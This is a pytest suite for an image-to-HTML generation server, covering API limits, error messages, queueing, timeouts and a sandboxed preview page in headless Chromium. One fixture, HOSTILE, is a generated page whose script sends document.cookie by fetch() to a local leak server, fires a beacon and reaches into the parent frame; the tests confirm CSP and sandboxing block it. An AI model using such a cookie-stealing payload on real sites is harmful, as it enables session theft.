"""The server: API and every limit through a test client, the page in headless Chromium, the CLI's errors."""
from __future__ import annotations

import base64
import http.server
import io
import json
import os
import re
import threading
import time
from pathlib import Path

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402

from i2h.generate import Prediction, Predictor  # noqa: E402
from i2h.serve import STATIC_DIR, Settings, create_app  # noqa: E402


def png(w: int = 320, h: int = 200, color=(30, 58, 138), noise: bool = False) -> bytes:
    from PIL import Image, ImageDraw

    if noise:  # incompressible: a PNG of known, large size
        img = Image.frombytes("RGB", (w, h), os.urandom(w * h * 3))
    else:
        img = Image.new("RGB", (w, h), "white")
        ImageDraw.Draw(img).rectangle((0, 0, w, h // 6), fill=color)
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


@pytest.fixture(scope="module")
def predictor(tiny_bundle):
    """The real Predictor on the tiny model, EOS pushed down so it writes visible tokens."""
    import torch

    p = Predictor(tiny_bundle)
    bias = tiny_bundle.model.text.final_logits_bias
    with torch.no_grad():
        saved = bias.clone()
        bias[0, p.generation["eos_token_id"]] = -30.0
    yield p
    with torch.no_grad():
        bias.copy_(saved)


@pytest.fixture(scope="module")
def client(predictor):
    with TestClient(create_app(predictor, Settings(max_new_tokens_limit=64))) as c:
        yield c


def post_file(c, data: bytes, name="shot.png", path="/v1/generate", **fields):
    return c.post(path, files={"image": (name, data, "image/png")}, data={k: str(v) for k, v in fields.items()})


def sse_events(text: str) -> list[tuple[str, dict]]:
    out = []
    for block in text.strip().split("\n\n"):
        lines = dict(line.split(": ", 1) for line in block.splitlines())
        out.append((lines["event"], json.loads(lines["data"])))
    return out


# ---------------------------------------------------------------- the API with the real Predictor


def test_health_reports_model_queue_and_limits(client):
    h = client.get("/health").json()
    assert h["status"] == "ok"
    assert h["queue"] == {"running": 0, "waiting": 0, "limit": 5}
    assert h["limits"]["max_upload_bytes"] == Settings().max_upload_bytes
    assert h["accepted_types"] == ["image/png", "image/jpeg", "image/webp"]


def test_generate_multipart_and_json_agree(client):
    shot = png()
    r = post_file(client, shot, max_new_tokens=12)
    assert r.status_code == 200, r.text
    body = r.json()
    assert set(body) >= {"html", "tokens", "seconds", "truncated"}
    assert body["html"].startswith("<!DOCTYPE html>") and body["tokens"] == 12 and body["truncated"] is True
    # Same image as JSON (plain base64 and a data: URL): greedy decoding gives the same page.
    b64 = base64.b64encode(shot).decode()
    for image in (b64, "data:image/png;base64," + b64):
        j = client.post("/v1/generate", json={"image": image, "max_new_tokens": 12})
        assert j.status_code == 200, j.text
        assert j.json()["html"] == body["html"]


def test_stream_sends_tokens_then_the_same_result(client):
    shot = png(color=(200, 30, 30))
    whole = post_file(client, shot, max_new_tokens=10).json()
    r = post_file(client, shot, path="/v1/generate/stream", max_new_tokens=10)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
    events = sse_events(r.text)
    assert events[0] == ("status", {"state": "queued"}) and events[1] == ("status", {"state": "running"})
    tokens = [d["text"] for e, d in events if e == "token"]
    assert tokens and events[-1][0] == "done"
    assert events[-1][1]["html"] == whole["html"] and events[-1][1]["tokens"] == 10
    assert "".join(tokens) in events[-1][1]["html"]


def test_requests_share_nothing(predictor):
    """Two workers, different screenshots at once: each answer is the one it gets alone."""
    shots = [png(color=c, w=w) for c, w in (((220, 20, 20), 300), ((20, 20, 220), 640))]
    with TestClient(create_app(predictor, Settings(workers=2))) as c:
        alone = [post_file(c, s, max_new_tokens=16).json()["html"] for s in shots]
        together: dict[int, str] = {}

        def call(i):
            together[i] = post_file(c, shots[i], max_new_tokens=16).json()["html"]

        threads = [threading.Thread(target=call, args=(i,)) for i in (0, 1, 0, 1)]
        [t.start() for t in threads]
        [t.join() for t in threads]
    assert together == {0: alone[0], 1: alone[1]}


# ---------------------------------------------------------------- limits and faults, each with a message


def test_upload_too_large_is_413(predictor):
    big = png(120, 120, noise=True)  # ~43 KB
    with TestClient(create_app(predictor, Settings(max_upload_bytes=20_000))) as c:
        r = post_file(c, big, name="big.png")
        assert r.status_code == 413
        assert "big.png" in r.json()["error"] and "upload limit" in r.json()["error"]
        r = c.post("/v1/generate", json={"image": base64.b64encode(big).decode(), "filename": "big.png"})
        assert r.status_code == 413 and "big.png" in r.json()["error"]
        # A body far past the limit is refused from its Content-Length, before it is read.
        r = c.post("/v1/generate", content=b"x" * 200_000, headers={"content-type": "application/json"})
        assert r.status_code == 413 and "upload limit" in r.json()["error"]


def test_too_many_pixels_is_413(predictor):
    with TestClient(create_app(predictor, Settings(max_pixels=10_000))) as c:
        r = post_file(c, png(200, 100), name="wide.png")
    assert r.status_code == 413
    assert r.json()["error"] == "`wide.png`: 200x100 is too many pixels (the limit is 10,000); crop or downscale it"


def test_unsupported_types_are_415(client):
    gif = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
    r = post_file(client, gif, name="anim.gif")
    assert r.status_code == 415 and "anim.gif" in r.json()["error"] and "GIF" in r.json()["error"]
    r = post_file(client, b"just some text", name="notes.txt")
    assert r.status_code == 415 and "PNG, JPEG or WebP" in r.json()["error"]
    r = client.post("/v1/generate", content=b"raw bytes", headers={"content-type": "image/png"})
    assert r.status_code == 415 and "multipart/form-data" in r.json()["error"]


@pytest.mark.parametrize("request_kwargs, status, says", [
    (dict(data={"max_new_tokens": "0"}), 422, "max_new_tokens"),
    (dict(data={"max_new_tokens": "65"}), 422, "over this server's limit of 64"),
    (dict(data={"temperature": "hot"}), 422, "temperature"),
    (dict(data={"colour": "red"}), 422, "colour: unknown option"),
    (dict(image=b"\x89PNG\r\n\x1a\n" + b"\0" * 40), 422, "cannot read the image"),
    (dict(image=b""), 422, "empty upload"),
    (dict(json={"image": "not base64!"}), 422, "not valid base64"),
    (dict(json={"max_new_tokens": 5}), 422, "image: Field required"),
    (dict(content=b"{oops", headers={"content-type": "application/json"}), 422, "not valid JSON"),
    (dict(files={"picture": ("a.png", b"x")}), 422, "`image` file field is missing"),
])
def test_bad_requests_get_a_message(client, request_kwargs, status, says):
    kw = dict(request_kwargs)
    if "json" not in kw and "content" not in kw and "files" not in kw:
        kw["files"] = {"image": ("shot.png", kw.pop("image", png()), "image/png")}
    r = client.post("/v1/generate", **kw)
    assert r.status_code == status, r.text
    assert says in r.json()["error"]
    assert "Traceback" not in r.text


def test_stream_needs_one_beam_and_unknown_paths_are_json(client):
    r = post_file(client, png(), path="/v1/generate/stream", num_beams=2)
    assert r.status_code == 422 and "num_beams" in r.json()["error"]
    r = client.get("/v2/nothing")
    assert r.status_code == 404 and "/v2/nothing" in r.json()["error"]


class StubPredictor:
    """Predictor's interface with controllable timing and output, for queue, timeout and page tests."""

    def __init__(self, html="<p>stub</p>", gate: threading.Event | None = None, sleep=0.0, fail=None, piece=40):
        self.html, self.gate, self.sleep, self.fail, self.piece = html, gate, sleep, fail, piece
        self.calls = 0

    def _wait(self):
        self.calls += 1
        if self.gate is not None:
            assert self.gate.wait(30)
        time.sleep(self.sleep)
        if self.fail:
            raise self.fail

    def _pred(self):
        return Prediction(html=self.html, tokens=len(self.html) // 4, truncated=False, loop_cut=False, seconds=0.01)

    def predict_full(self, images, **kw):
        self._wait()
        return [self._pred() for _ in images]

    def stream(self, image, **kw):
        self._wait()
        for i in range(0, len(self.html), self.piece):
            time.sleep(0.01)
            yield self.html[i : i + self.piece]
        yield self._pred()


def _wait_for(cond, timeout=10.0):
    end = time.monotonic() + timeout
    while not cond():
        assert time.monotonic() < end, "timed out waiting"
        time.sleep(0.01)


def test_full_queue_is_503_with_retry_after_and_the_rest_finish():
    release = threading.Event()
    app = create_app(StubPredictor(gate=release), Settings(workers=1, max_queue=1))
    with TestClient(app) as c:
        results = []
        threads = [threading.Thread(target=lambda: results.append(post_file(c, png()).status_code)) for _ in range(2)]
        [t.start() for t in threads]
        _wait_for(lambda: c.get("/health").json()["queue"] == {"running": 1, "waiting": 1, "limit": 2})
        r = post_file(c, png())
        assert r.status_code == 503
        assert int(r.headers["retry-after"]) >= 1 and "busy" in r.json()["error"]
        r = post_file(c, png(), path="/v1/generate/stream")
        assert r.status_code == 503
        release.set()
        [t.join() for t in threads]
        assert results == [200, 200]
        assert c.get("/health").json()["queue"]["running"] == 0


def test_time_limit_is_504_and_the_slot_is_held_until_the_work_ends():
    stub = StubPredictor(sleep=0.6)
    with TestClient(create_app(stub, Settings(timeout_s=0.2, max_queue=0))) as c:
        r = post_file(c, png())
        assert r.status_code == 504 and "0.2 s" in r.json()["error"]
        # The generation still runs on its worker: the server says so rather than overbooking it.
        assert c.get("/health").json()["queue"]["running"] == 1
        assert post_file(c, png()).status_code == 503
        _wait_for(lambda: c.get("/health").json()["queue"]["running"] == 0)
        r = post_file(c, png(), path="/v1/generate/stream")
        events = sse_events(r.text)
        assert events[-1][0] == "error" and "0.2 s" in events[-1][1]["error"]


def test_a_server_fault_is_500_without_a_traceback():
    with TestClient(create_app(StubPredictor(fail=RuntimeError("CUDA out of memory")), Settings())) as c:
        r = post_file(c, png())
    assert r.status_code == 500
    assert r.json() == {"error": "generation failed on the server (RuntimeError); the server log has details"}


def test_docs_schemas_and_the_page_headers(client):
    spec = client.get("/openapi.json").json()
    body = spec["paths"]["/v1/generate"]["post"]["requestBody"]["content"]
    assert set(body) == {"multipart/form-data", "application/json"}
    assert "max_new_tokens" in body["application/json"]["schema"]["properties"]
    docs = client.get("/docs")
    assert docs.status_code == 200 and "/static/docs.js" in docs.text and "cdn" not in docs.text.lower()
    page = client.get("/")
    assert page.status_code == 200 and "text/html" in page.headers["content-type"]
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp and "connect-src 'self'" in csp and "frame-src 'none'" in csp
    assert client.get("/static/app.js").status_code == 200 and client.get("/static/app.css").status_code == 200


def test_the_page_needs_nothing_from_outside():
    for f in STATIC_DIR.iterdir():
        text = f.read_text()
        assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text), f.name
        assert not re.search(r"""url\(\s*["']?(https?:)?//|@import""", text), f.name
        assert "fetch(\"http" not in text and "fetch('http" not in text, f.name


def test_cli_errors_are_one_line(capsys):
    from i2h.cli import main

    assert main(["serve", "--max-queue", "-1"]) == 2
    assert capsys.readouterr().err.strip() == "i2h: error: --max-queue -1: must be 0 or more"
    assert main(["serve", "--model", "/nonexistent/model", "--port", "1"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("i2h: error:") and "Traceback" not in err


# ---------------------------------------------------------------- the page in headless Chromium

HOSTILE = """<!DOCTYPE html><html><head><title>Acme</title>
<meta http-equiv="refresh" content="1;url=http://127.0.0.1:{leak}/refresh">
<link rel="stylesheet" href="http://127.0.0.1:{leak}/style.css">
<style>body{{margin:0;font-family:sans-serif}} header{{background:#1e3a8a;color:#fff;padding:24px 40px}}
.hero{{padding:40px;background:#eef2ff}} .btn{{background:#2563eb;color:#fff;padding:10px 18px;border-radius:6px}}
.grid{{display:grid;grid-template-columns:repeat(3,1fr);gap:16px;padding:40px}} .card{{border:1px solid #ddd;padding:16px}}</style>
</head><body><header><h1>Build faster</h1></header>
<div class="hero"><p>Ship your product in days, not months.</p><span class="btn">Get started</span></div>
<div class="grid"><div class="card">Fast</div><div class="card">Cheap</div><div class="card">Good</div></div>
<img src="http://127.0.0.1:{leak}/img.png" alt=""><img src="/health?from=preview" alt="">
<script>
document.body.setAttribute("data-ran", "yes");
try {{ parent.document.body.setAttribute("data-pwned", "yes"); }} catch (e) {{}}
try {{ fetch("http://127.0.0.1:{leak}/fetch?c=" + document.cookie); }} catch (e) {{}}
new Image().src = "http://127.0.0.1:{leak}/beacon";
</script></body></html>"""


class _Leak(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):  # any request here came from the generated page: it must never happen
        _Leak.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):
        pass


class UvicornThread:
    """A real uvicorn server on 127.0.0.1 and a free port, in a thread."""

    def __init__(self, app):
        import uvicorn

        self.server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def __enter__(self):
        self.thread.start()
        _wait_for(lambda: self.server.started)
        self.url = "http://127.0.0.1:%d" % self.server.servers[0].sockets[0].getsockname()[1]
        return self

    def __exit__(self, *exc):
        self.server.should_exit = True
        self.thread.join(10)


@pytest.fixture(scope="module")
def browser_page():
    """(page, app url, leak hits, requests seen): a served stub page with a hostile script, and a browser."""
    pw_api = pytest.importorskip("playwright.sync_api")
    from i2h.render import find_chromium

    leak = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Leak)
    threading.Thread(target=leak.serve_forever, daemon=True).start()
    stub = StubPredictor(html=HOSTILE.format(leak=leak.server_address[1]))
    with UvicornThread(create_app(stub, Settings(model_name="stub"))) as srv, pw_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=find_chromium(), headless=True, args=["--no-sandbox", "--disable-gpu"])
        context = browser.new_context(viewport={"width": 1500, "height": 950})
        context.add_cookies([{"name": "session", "value": "s3cr3t", "url": srv.url}])
        page = context.new_page()
        seen = {"finished": [], "failed": {}, "console": []}  # every request of the page and its frames
        page.on("requestfinished", lambda req: seen["finished"].append(req.url))
        page.on("requestfailed", lambda req: seen["failed"].__setitem__(req.url, req.failure))
        page.on("console", lambda msg: seen["console"].append(msg.text))
        page.goto(srv.url)
        yield page, srv.url, _Leak.hits, seen
        browser.close()
    leak.shutdown()


def _shot_dir(tmp_path: Path) -> Path:
    out = Path(os.environ.get("I2H_SCREENSHOT_DIR", tmp_path))
    out.mkdir(parents=True, exist_ok=True)
    return out


@pytest.mark.browser
def test_page_upload_shows_code_and_preview_and_the_script_never_runs(browser_page, screenshot, tmp_path):
    page, url, leak_hits, seen = browser_page
    page.set_input_files("#file", str(screenshot))
    page.wait_for_selector("body[data-state=done]", timeout=20_000)

    assert page.locator("#input").is_visible()
    code = page.locator("#code")
    assert "Build faster" in code.inner_text()
    assert code.locator("span.t-tag").count() > 10 and code.locator("span.t-attr").count() > 3  # highlighted
    assert not page.locator("#copy").is_disabled() and not page.locator("#download").is_disabled()
    assert "tokens" in page.locator("#meta").inner_text()

    preview = page.frame_locator("#preview")
    assert preview.locator("h1").inner_text() == "Build faster"  # the page renders, with its styles
    assert preview.locator("header").evaluate("e => getComputedStyle(e).backgroundColor") == "rgb(30, 58, 138)"
    page.wait_for_timeout(1500)  # past the meta refresh's delay and any beacon
    # The script never ran: not in the frame, not against the app's page, not over the network.
    assert preview.locator("body").get_attribute("data-ran") is None
    assert page.locator("body").get_attribute("data-pwned") is None
    assert page.frame_locator("#preview").locator("h1").count() == 1  # not navigated away by the refresh
    assert leak_hits == []
    # Every request the generated page tried was refused by the CSP before reaching the network, even
    # one to the app's own origin; Chromium also reports the script refused by the sandbox.
    assert [u for u in seen["finished"] if not u.startswith((url + "/", "blob:", "data:"))] == []
    assert not [u for u in seen["finished"] if "from=preview" in u]
    assert seen["failed"].get(url + "/health?from=preview") == "csp"
    assert [why for u, why in seen["failed"].items() if not u.startswith(url)] == ["csp", "csp"]  # style, img
    assert any("Blocked script execution in 'about:srcdoc'" in m and "sandboxed" in m for m in seen["console"])
    sandbox = page.locator("#preview").get_attribute("sandbox")
    assert sandbox == ""  # no allow-scripts, no allow-same-origin
    srcdoc = page.locator("#preview").get_attribute("srcdoc")
    assert srcdoc.startswith("<!DOCTYPE html><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'")

    out = _shot_dir(tmp_path)
    page.screenshot(path=str(out / "serve_page.png"), full_page=True)
    page.click("text=Mobile 390")
    assert page.locator("#preview").evaluate("e => e.style.width") == "390px"
    page.screenshot(path=str(out / "serve_page_mobile.png"), full_page=True)
    page.click("text=Desktop 1280")
    docs = page.context.new_page()
    docs.goto(url + "/docs")
    docs.wait_for_selector("text=POST /v1/generate/stream")
    assert docs.locator("table.schema code", has_text="max_new_tokens").count() >= 2
    docs.screenshot(path=str(out / "serve_docs.png"), full_page=True)
    docs.close()


@pytest.mark.browser
def test_page_takes_a_pasted_image_and_shows_server_errors(browser_page, tmp_path):
    page, url, leak_hits, _ = browser_page
    data = list(png(200, 120))
    paste = """async (bytes) => {
        const dt = new DataTransfer();
        dt.items.add(new File([new Uint8Array(bytes)], "clip.png", {type: "image/png"}));
        document.dispatchEvent(new ClipboardEvent("paste", {clipboardData: dt, bubbles: true}));
    }"""
    page.evaluate(paste, data)
    page.wait_for_selector("body[data-state=done]", timeout=20_000)
    assert "Build faster" in page.locator("#code").inner_text()
    # A type the server refuses: the page says what is wrong in words, not a status code.
    page.evaluate("""() => {
        const dt = new DataTransfer();
        dt.items.add(new File(["GIF89a"], "anim.gif", {type: "image/gif"}));
        document.dispatchEvent(new DragEvent("drop", {dataTransfer: dt, bubbles: true}));
    }""")
    page.wait_for_selector("body[data-state=error]", timeout=5_000)
    assert "anim.gif: unsupported type" in page.locator("#status").inner_text()
    assert leak_hits == []
